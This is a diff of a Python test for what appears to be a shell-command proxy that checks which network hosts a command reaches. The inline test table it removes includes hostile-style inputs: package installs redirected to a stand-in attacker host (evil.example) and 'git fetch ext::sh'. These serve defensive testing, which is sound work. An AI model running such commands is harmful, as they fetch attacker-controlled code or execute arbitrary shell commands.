@@ -14,6 +14,7 @@ from ironcurtain_proxy.model.values import RealPath
 from ironcurtain_proxy.shell.families import families_of, sought
 from ironcurtain_proxy.shell.statements import parse_command
 from tests.shell.places import covers
+from tests.tables import table
 
 
 @pytest.fixture
@@ -48,28 +49,7 @@ def hosts(here: Path, command: str) -> tuple[str, ...]:
 
 @pytest.mark.parametrize(
     ("command", "reached"),
-    [
-        ("git fetch origin", ("git.example.org",)),
-        ("git push origin main", ("git.example.org",)),
-        ("git push git@other.example:a/b.git x", ("other.example",)),
-        ("gh pr view 1 | head", ("api.github.com", "github.com")),
-        ("npm ci", ("registry.npmjs.org",)),
-        ("go mod tidy", ("proxy.golang.org", "sum.golang.org")),
-        ("cargo install ripgrep", ("index.crates.io", "static.crates.io")),
-        ("uv pip install rich", ("files.pythonhosted.org", "pypi.org")),
-        ("git fetch origin && npm ci", ("git.example.org", "registry.npmjs.org")),
-        # Nothing that runs beside it is known to reach out.
-        ("go test ./... && cargo build", ()),
-        # Another place is named than configuration says.
-        ("GH_HOST=evil.example gh pr view 1", ()),
-        ("npm_config_registry=https://evil.example npm ci", ()),
-        ("npm ci --registry https://evil.example", ()),
-        ("npm install https://evil.example/x.tgz", ()),
-        ("uv pip install --index-url https://evil.example rich", ()),
-        ("cargo install --git https://evil.example/x", ()),
-        ("git fetch ext::sh", ()),
-        ("git fetch ../elsewhere", ()),
-    ],
+    table("facts/commands.hosts", list[tuple[str, tuple[str, ...]]]),
 )
 def test_a_command_reaches_what_its_configuration_names(
     project: Path, command: str, reached: tuple[str, ...]
